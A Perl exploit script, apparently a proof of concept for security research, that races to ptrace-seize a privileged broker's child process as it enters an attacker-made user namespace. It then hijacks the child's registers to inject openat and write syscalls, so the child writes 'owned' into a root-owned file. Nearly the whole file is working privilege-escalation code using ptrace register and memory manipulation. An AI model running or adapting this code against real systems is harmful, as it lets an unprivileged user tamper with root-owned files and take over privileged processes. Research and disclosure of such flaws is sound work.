# Root of a user namespace that root created searches for the broker's child that enters it, and makes the
# child open and write root's file: seize.pl SOCKET OWNER REQUEST SECONDS FILE
use strict;
use warnings;
use Attack;

use constant { SEIZE => 0x4206, INTERRUPT => 0x4207, PEEKTEXT => 1, POKEDATA => 5, SINGLESTEP => 9,
  GETREGS => 12, SETREGS => 13, DETACH => 17, WALL => 0x40000000 };

my ($socket, $owner, $request, $seconds, $file) = @ARGV;
# Uids without other processes.
mapped_namespace(1_000_000 + $$ % 1000 * 65536, 65536, NEWNS | NEWNET, $owner + 0);
my $end = now() + $seconds;

pipe my $reader, my $writer or die;
my $client = fork // die;
if ($client == 0) {
  my ($requests, $granted) = (0, 0);
  while (now() < $end) {
    my ($answer, $token) = ask($socket, $request, 2);
    $requests++;
    $granted++ if $token >= 0;
    sys('close', $token) if $token >= 0;
  }
  syswrite $writer, pack 'LL', $requests, $granted;
  exit 0;
}

my ($seized, $tried, $first, $looked) = (0, 0, -1, 0);
my $started = now();
hunt: while (now() < $end) {
  my $last = last_pid();
  for my $pid ($last - 1 .. $last + 4) {
    next if $pid == $client || $pid == $$ || $pid < 2;
    $tried++;
    my $result = sys('ptrace', SEIZE, $pid, 0, 0);
    if ($result == 0) {
      $first = now() - $started if $seized++ == 0;
      my $used = use_child($pid);
      # Otherwise the broker would wait for a stopped child.
      sys('ptrace', DETACH, $pid, 0, 9);
      kill 'KILL', $pid if !$used && mine($pid);
      if ($used) { say_value('took', sprintf '%.2f', now() - $started); last hunt }
    }
    # Its descriptor list in /proc has the same ptrace access check.
    elsif (opendir my $folder, "/proc/$pid/fd") { $looked++ if -e "/proc/$pid/ns/user" && mine($pid) }
  }
}
say_value('seized', $seized);
say_value('first', sprintf '%.2f', $first);
say_value('listed', $looked);
say_value('tried', $tried);
$end = 0;
kill 'TERM', $client if $seized;
waitpid $client, 0;
my $counts = "";
close $writer;
if (sysread $reader, $counts, 8) {
  my ($requests, $granted) = unpack 'LL', $counts;
  say_value('requests', $requests);
  say_value('granted', $granted);
}

# Returns whether a process is in this user namespace, as the broker's child is.
sub mine {
  my ($pid) = @_;
  return (readlink("/proc/$pid/ns/user") // '') eq readlink('/proc/self/ns/user');
}

# Makes the child call openat and write with its credentials; returns whether it wrote.
sub use_child {
  my ($pid) = @_;
  sys('ptrace', INTERRUPT, $pid, 0, 0);
  return 0 if waitpid($pid, WALL) != $pid;
  return 0 if $machine ne 'x86_64';
  my $registers = "\0" x 216;
  return 0 if sys('ptrace', GETREGS, $pid, 0, $registers) < 0;
  my @old = unpack 'Q27', $registers;
  my ($rip, $stack) = ($old[16], $old[19] - 2048);
  my ($start, $code) = ($rip - 256, '');
  for my $index (0 .. 63) {
    my $word = "\0" x 8;
    last if sys('ptrace', PEEKTEXT, $pid, $start + 8 * $index, $word) < 0;
    $code .= $word;
  }
  my $place = index $code, "\x0f\x05";
  return 0 if $place < 0;
  my $call = sub {
    my ($number, $one, $two, $three) = @_;
    my @new = @old;
    # r10, rdx, rsi, rdi, orig_rax, rip; rax
    @new[7, 12, 13, 14, 15, 16, 10] =
      (0, $three, $two, $one, -1, $start + $place, $number);
    return -1 if sys('ptrace', SETREGS, $pid, 0, pack 'Q27', @new) < 0;
    return -1 if sys('ptrace', SINGLESTEP, $pid, 0, 0) < 0;
    waitpid $pid, WALL;
    return -1 if sys('ptrace', GETREGS, $pid, 0, $registers) < 0;
    return (unpack 'q27', $registers)[10];
  };
  my $text = "$file\0owned\n";
  $text .= "\0" x (8 - length($text) % 8);
  for my $index (0 .. length($text) / 8 - 1) {
    sys('ptrace', POKEDATA, $pid, $stack + 8 * $index, unpack 'q', substr $text, 8 * $index, 8);
  }
  my $fd = $call->(257, -100, $stack, 2);
  say_value('opened', errno_name($fd));
  my $count = $fd < 0 ? -1 : $call->(1, $fd, $stack + length($file) + 1, 6);
  return $count == 6;
}
